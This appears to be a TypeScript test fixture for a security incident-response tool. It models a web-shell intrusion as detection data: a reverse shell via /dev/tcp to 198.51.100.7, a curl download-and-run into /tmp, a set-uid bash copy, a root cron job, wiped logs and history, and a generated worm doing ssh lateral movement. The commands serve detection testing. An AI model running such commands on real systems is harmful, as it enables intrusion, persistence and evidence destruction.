// Example incidents for tests: a web shell that led to root, as an engine would tell it, and one of any size.

import type { Incident, IncidentHead } from '../../src/model/index.ts'
import { detection, IncidentBuilder } from './incident-builder.ts'

const sha256 = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'

/** Upload of a web shell, commands through it, a reverse shell, root by an exploit, a set-uid shell, cron, wiped logs. */
export function webShellIncident(parts: Partial<Incident> = {}): Incident {
  const b = new IncidentBuilder()
  const attacker = b.node('address', '203.0.113.9', { score: 70, facts: { 'source.ip': '203.0.113.9' } })
  const apache = b.process('apache2 -k start', 812, { role: 'context' })
  const upload = b.node('request', 'POST /gallery/upload.php', {
    score: 60,
    facts: {
      'http.request.method': 'POST',
      'url.original': '/gallery/upload.php',
      'http.response.status_code': 200,
      'user_agent.original': 'curl/8.5.0',
    },
  })
  const webshell = b.node('file', '/var/www/html/gallery/img/a.php.jpg', {
    score: 88,
    facts: {
      'file.path': '/var/www/html/gallery/img/a.php.jpg',
      'file.hash.sha256': sha256,
      'file.owner': 'www-data',
      'file.mode': '0644',
      'file.size': 1184,
    },
  })
  const wwwData = b.node('account', 'www-data', { role: 'context', facts: { 'user.name': 'www-data' } })
  b.link(attacker, 'sent', upload, 'the web server logged the request with this address')
  b.link(upload, 'uploaded', webshell, 'the web server wrote the file while it served the request')
  b.link(apache, 'wrote', webshell, 'the process wrote it')
  b.step(0, {
    nodes: [attacker, upload],
    text: '203.0.113.9 asked POST /gallery/upload.php (200, 512 bytes)',
    why: 'the request uploaded a file that was found malicious',
    action: 'line',
    detections: [
      detection('File with two extensions uploaded', 50, 'T1190', {
        ruleset: 'weblog',
        why: 'the name a.php.jpg runs as PHP where AddHandler is set',
      }),
    ],
  })
  b.step(84, {
    nodes: [apache, webshell],
    text: 'apache2 wrote /var/www/html/gallery/img/a.php.jpg',
    why: 'written by the server while it served the request',
    action: 'write',
  })
  b.step(120, {
    nodes: [webshell],
    text: 'found: Php.Webshell.Generic in /var/www/html/gallery/img/a.php.jpg',
    why: 'the file that the request uploaded',
    action: 'verdict',
    detections: [
      detection('Php.Webshell.Generic', 80, 'T1505.003', { ruleset: 'engine', rule: 'heuristics' }),
    ],
  })

  const request = b.node('request', 'GET /gallery/img/a.php.jpg?c=id', {
    score: 75,
    facts: {
      'http.request.method': 'GET',
      'url.original': '/gallery/img/a.php.jpg?c=id',
      'http.response.status_code': 200,
    },
  })
  const sh = b.process('sh -c id', 4211, { score: 75 })
  const id = b.process('id', 4212)
  b.link(attacker, 'sent', request, 'the web server logged the request with this address')
  b.link(request, 'asked-for', webshell, 'the path of the request names the file')
  b.link(request, 'caused', sh, 'the server started it while it served the request')
  b.link(apache, 'started', sh, 'its parent')
  b.link(sh, 'started', id, 'its parent')
  b.step(21_400, {
    nodes: [attacker, request],
    text: '203.0.113.9 asked GET /gallery/img/a.php.jpg?c=id (200, 54 bytes)',
    why: 'it asks for the uploaded file',
    action: 'line',
    count: 3,
    detections: [
      detection('Command in a parameter', 75, 'T1059.004 T1505.003', {
        ruleset: 'weblog',
        why: 'parameter c is a command of the shell: id',
      }),
    ],
  })
  b.step(30, {
    nodes: [sh, apache],
    text: 'apache2 started sh -c id',
    why: 'started while the request was served',
    detections: [detection('Shell started by a web server', 75, 'T1505.003 T1059.004')],
  })
  b.step(6, { nodes: [id], text: 'sh started id', why: 'a child of the shell' })

  const request2 = b.node('request', 'GET /gallery/img/a.php.jpg?c=bash+-c+…', {
    score: 75,
    facts: {
      'http.request.method': 'GET',
      'url.original': "/gallery/img/a.php.jpg?c=bash+-c+'bash+-i+>%26+/dev/tcp/198.51.100.7/4444+0>%261'",
      'http.response.status_code': 504,
    },
  })
  const sh2 = b.process("sh -c bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'", 4230, { score: 75 })
  const reverse = b.process('bash -i', 4232, { score: 95 })
  const c2 = b.node('address', '198.51.100.7', {
    score: 80,
    facts: { 'destination.ip': '198.51.100.7', 'destination.port': 4444 },
  })
  b.link(attacker, 'sent', request2, 'the web server logged the request with this address')
  b.link(request2, 'asked-for', webshell, 'the path of the request names the file')
  b.link(request2, 'caused', sh2, 'the server started it while it served the request')
  b.link(sh2, 'started', reverse, 'its parent')
  b.link(reverse, 'connected-to', c2, 'the process connected its input and output with it')
  b.link(reverse, 'acted-as', wwwData, 'it ran as this user')
  b.step(43_000, {
    nodes: [sh2, apache],
    text: "apache2 started sh -c bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
    why: 'started while the request was served',
    detections: [detection('Shell started by a web server', 75, 'T1505.003 T1059.004')],
  })
  b.step(12, { nodes: [reverse], text: 'sh started bash -i', why: 'a child of the shell' })
  b.step(9, {
    nodes: [reverse, c2],
    text: 'bash connected to 198.51.100.7:4444',
    why: 'a connection of the shell',
    action: 'connect',
    detections: [
      detection('Reverse shell', 95, 'T1059.004 T1095', {
        why: 'an interactive shell whose input and output are a connection',
      }),
    ],
  })

  const curl = b.process('curl -so /tmp/.x http://198.51.100.7/x', 4260, { score: 50 })
  const dropped = b.node('file', '/tmp/.x', {
    score: 80,
    facts: {
      'file.path': '/tmp/.x',
      'file.hash.sha256': sha256.replace('9f', 'a1'),
      'file.owner': 'www-data',
      'file.mode': '0755',
    },
  })
  const exploit = b.process('/tmp/.x', 4271, { score: 90, user: 'root' })
  const root = b.node('account', 'root', { role: 'context', facts: { 'user.name': 'root' } })
  b.link(reverse, 'started', curl, 'its parent')
  b.link(curl, 'connected-to', c2, 'the process opened the connection')
  b.link(curl, 'wrote', dropped, 'the process wrote it')
  b.link(dropped, 'ran', exploit, 'the process runs this file')
  b.link(reverse, 'started', exploit, 'its parent')
  b.link(exploit, 'acted-as', root, 'it became this user')
  b.step(61_000, {
    nodes: [curl],
    text: 'bash started curl -so /tmp/.x http://198.51.100.7/x',
    why: 'a child of the reverse shell',
    detections: [detection('Download into a folder for temporary files', 50, 'T1105')],
  })
  b.step(240, {
    nodes: [curl, dropped],
    text: 'curl wrote /tmp/.x',
    why: 'written by a process of the incident',
    action: 'create',
  })
  b.step(3_100, {
    nodes: [exploit, dropped],
    text: 'bash started /tmp/.x',
    why: 'it runs a file of the incident',
    detections: [detection('Program that was just downloaded', 75, 'T1105 T1059')],
  })
  b.step(700, {
    nodes: [exploit, root],
    text: '/tmp/.x became root without a call that explains it',
    why: 'the process runs a file of the incident',
    action: 'credentials-gained',
    detections: [detection('credentials-gained', 95, 'T1068', { ruleset: 'process', rule: '' })],
  })

  const rootShell = b.process('sh', 4280, { user: 'root', score: 60 })
  const install = b.process('install -m 4755 /bin/bash /usr/local/bin/.sysd', 4290, {
    user: 'root',
    score: 70,
  })
  const suid = b.node('file', '/usr/local/bin/.sysd', {
    score: 92,
    facts: {
      'file.path': '/usr/local/bin/.sysd',
      'file.hash.sha256': sha256.replace('9f', 'b7'),
      'file.owner': 'root',
      'file.mode': '4755',
    },
  })
  const cronFile = b.node('file', '/etc/cron.d/php-sessions', {
    score: 75,
    facts: { 'file.path': '/etc/cron.d/php-sessions', 'file.owner': 'root', 'file.mode': '0644' },
  })
  const job = b.node('schedule', '*/5 * * * * root /usr/local/bin/.sysd -p -c …', {
    score: 75,
    facts: { 'hx.schedule.kind': 'crontab', 'hx.schedule.user': 'root' },
  })
  b.link(exploit, 'started', rootShell, 'its parent')
  b.link(rootShell, 'acted-as', root, 'it ran as this user')
  b.link(rootShell, 'started', install, 'its parent')
  b.link(install, 'wrote', suid, 'the process wrote it')
  b.link(rootShell, 'wrote', cronFile, 'the process wrote it')
  b.link(cronFile, 'defines', job, 'the job stands in this file')
  b.step(40, { nodes: [rootShell], text: '/tmp/.x started sh', why: 'a child of the exploit' })
  b.step(9_000, {
    nodes: [install],
    text: 'sh started install -m 4755 /bin/bash /usr/local/bin/.sysd',
    why: 'a child of the root shell',
  })
  b.step(14, {
    nodes: [install, suid],
    text: '/usr/local/bin/.sysd is set-uid root and of no package',
    why: 'written by a process of the incident',
    action: 'setuid-added',
    detections: [
      detection('setuid-added', 90, 'T1548.001', { ruleset: 'files', rule: '' }),
      detection('Set-uid copy of a shell', 95, 'T1548.001'),
    ],
  })
  b.step(8_000, {
    nodes: [rootShell, cronFile],
    text: 'sh wrote /etc/cron.d/php-sessions',
    why: 'written by a process of the incident',
    action: 'autostart-added',
    detections: [detection('Job added by a shell that a web server started', 75, 'T1053.003')],
  })
  b.step(110, {
    nodes: [job, cronFile],
    text: 'cron will run /usr/local/bin/.sysd -p -c "…" as root every 5 minutes',
    why: 'its file is of the incident',
    action: 'job-added',
  })

  const truncate = b.process('truncate -s 0 /var/log/apache2/access.log', 4310, { user: 'root', score: 70 })
  const log = b.node('file', '/var/log/apache2/access.log', {
    score: 73,
    facts: { 'file.path': '/var/log/apache2/access.log', 'file.owner': 'root', 'file.mode': '0640' },
  })
  const rm = b.process('rm -f /root/.bash_history', 4311, { user: 'root', score: 55 })
  const history = b.node('file', '/root/.bash_history', {
    score: 73,
    facts: { 'file.path': '/root/.bash_history', 'file.owner': 'root' },
  })
  b.link(rootShell, 'started', truncate, 'its parent')
  b.link(truncate, 'changed', log, 'the process emptied it')
  b.link(rootShell, 'started', rm, 'its parent')
  b.link(rm, 'deleted', history, 'the process removed it')
  b.step(21_000, {
    nodes: [truncate, log],
    text: 'truncate emptied /var/log/apache2/access.log',
    why: 'a child of the root shell',
    action: 'log-cleared',
    detections: [detection('log-cleared', 73, 'T1070.002', { ruleset: 'logs', rule: '' })],
  })
  b.step(2_000, {
    nodes: [rm, history],
    text: 'rm removed /root/.bash_history',
    why: 'a child of the root shell',
    action: 'history-cleared',
    detections: [detection('history-cleared', 73, 'T1070.003', { ruleset: 'history', rule: '' })],
  })
  return b.build({
    title: 'Web shell from 203.0.113.9 led to a reverse shell and a set-uid root shell',
    accounts: ['www-data', 'root'],
    addresses: ['203.0.113.9', '198.51.100.7'],
    suggestions: [
      {
        action: 'kill-tree',
        target: reverse.replace('process:', ''),
        why: 'the reverse shell still runs, with all that it started',
      },
      {
        action: 'quarantine',
        target: '/var/www/html/gallery/img/a.php.jpg',
        why: 'the web shell through which commands came',
      },
      { action: 'quarantine', target: '/usr/local/bin/.sysd', why: 'a set-uid copy of a shell' },
      { action: 'block-address', target: '198.51.100.7', why: 'the reverse shell is connected with it' },
      { action: 'isolate-host', target: '', why: 'somebody else had root here' },
    ],
    history: [
      {
        time: b.steps[2]?.time ?? '',
        change: 'opened',
        why: 'Php.Webshell.Generic was found in a file that a request uploaded',
      },
      {
        time: b.steps[7]?.time ?? '',
        change: 'merged',
        other: 6,
        why: 'the process sh of incident 6 was started by the request of this one',
      },
      { time: b.steps[8]?.time ?? '', change: 'raised', why: 'critical: Reverse shell' },
    ],
    ...parts,
  })
}

/** The same attack, and what its root shell then did on many things; with exactly so many nodes (40 to 2,000). */
export function largeIncident(nodes: number): Incident {
  const base = webShellIncident()
  const b = new IncidentBuilder()
  b.nodes.push(...base.nodes)
  b.links.push(...base.links)
  b.steps.push(...base.steps)
  b.later(180_000)
  const shell = base.nodes.find(({ label }) => label === 'sh')?.id ?? ''
  const worm = b.process('python3 /tmp/.w.py', 5000, { user: 'root', score: 85 })
  b.link(shell, 'started', worm, 'its parent')
  b.step(10, {
    nodes: [worm],
    text: 'sh started python3 /tmp/.w.py',
    why: 'a child of the root shell',
    detections: [detection('Script from a folder for temporary files', 75, 'T1059.006')],
  })
  for (let index = 1; b.nodes.length < nodes; index += 1) {
    const ssh = b.process(
      `ssh -i /home/ann/.ssh/id_ed25519 10.0.${index >> 6}.${index % 64}`,
      5000 + index * 3,
      { user: 'root', score: index % 7 },
    )
    b.link(worm, 'started', ssh, 'its parent')
    b.step(200, {
      nodes: [ssh],
      text: `python3 started ssh to 10.0.${index >> 6}.${index % 64}`,
      why: 'a child of the worm',
    })
    if (b.nodes.length >= nodes) break
    const target = b.node('address', `10.0.${index >> 6}.${index % 64}`)
    b.link(ssh, 'connected-to', target, 'the process opened the connection')
    b.step(20, {
      nodes: [ssh, target],
      text: `ssh connected to 10.0.${index >> 6}.${index % 64}:22`,
      why: 'a connection of a process of the incident',
      action: 'connect',
    })
    if (b.nodes.length >= nodes || index % 3 > 0) continue
    const file = b.node('file', `/tmp/.w/${index}.out`, { facts: { 'file.path': `/tmp/.w/${index}.out` } })
    b.link(worm, 'wrote', file, 'the process wrote it')
    b.step(5, {
      nodes: [worm, file],
      text: `python3 wrote /tmp/.w/${index}.out`,
      why: 'written by a process of the incident',
      action: 'create',
    })
  }
  return b.build({ ...base, nodes: b.nodes, links: b.links, steps: b.steps, last: b.now })
}

/** What a list shows of it. */
export function headOf(incident: Incident): IncidentHead {
  const { id, title, level, score, status, first, last, steps, accounts, addresses, techniques } = incident
  const detections = steps.reduce((sum, step) => sum + step.detections.length, 0)
  return {
    id,
    title,
    level,
    score,
    status,
    first,
    last,
    steps: steps.length,
    detections,
    accounts,
    addresses,
    techniques,
  }
}
